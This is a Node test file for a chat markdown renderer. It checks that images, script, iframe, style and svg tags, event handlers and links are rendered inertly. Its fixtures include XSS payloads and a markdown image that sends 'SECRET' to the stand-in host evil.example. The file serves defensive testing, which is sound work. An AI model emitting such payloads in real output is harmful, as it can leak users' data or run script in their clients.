import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { renderMarkdown } from '../../../media/chat/markdown';

describe('chat markdown never loads or runs anything', () => {
  const hostile = [
    { name: 'a remote image', md: '![x](https://evil.example/p.png?d=SECRET)', banned: /<img/i },
    { name: 'an inline img tag', md: 'hi <img src=x onerror=alert(1)>', banned: /<img/i },
    { name: 'a script tag', md: '<script>alert(1)</script>', banned: /<script/i },
    { name: 'an iframe', md: '<iframe src="https://evil.example"></iframe>', banned: /<iframe/i },
    { name: 'a style tag loading a remote font', md: '<style>@import url(https://evil.example/x.css)</style>', banned: /<style/i },
    { name: 'a javascript: link', md: '[click](javascript:alert(1))', banned: /\shref=/i },
    { name: 'a plain link', md: '[docs](https://example.com)', banned: /\shref=/i },
    { name: 'a reference-style image', md: '![x][r]\n\n[r]: https://evil.example/a.png', banned: /<img/i },
    { name: 'an autolink', md: '<https://evil.example/x>', banned: /\shref=/i },
    { name: 'an svg with onload', md: '<svg onload=alert(1)>', banned: /<svg/i },
  ];
  for (const c of hostile) {
    it(`renders ${c.name} inertly`, () => {
      const html = renderMarkdown(c.md);
      assert.doesNotMatch(html, c.banned, html);
      assert.doesNotMatch(html, /<[a-z][^>]*\son\w+\s*=/i, html);
    });
  }

  it('keeps a link clickable through the host (data-href, no href)', () => {
    const html = renderMarkdown('[docs](https://example.com/a?b=1)');
    assert.match(html, /data-href="https:\/\/example\.com\/a\?b=1"/);
  });

  it('still renders ordinary markdown', () => {
    const html = renderMarkdown('# Title\n\n**bold** and `code`\n\n```ts\nconst a = 1 < 2;\n```');
    assert.match(html, /<h1>Title<\/h1>/);
    assert.match(html, /<strong>bold<\/strong>/);
    assert.match(html, /<code>code<\/code>/);
    assert.match(html, /1 &lt; 2/);
  });
});
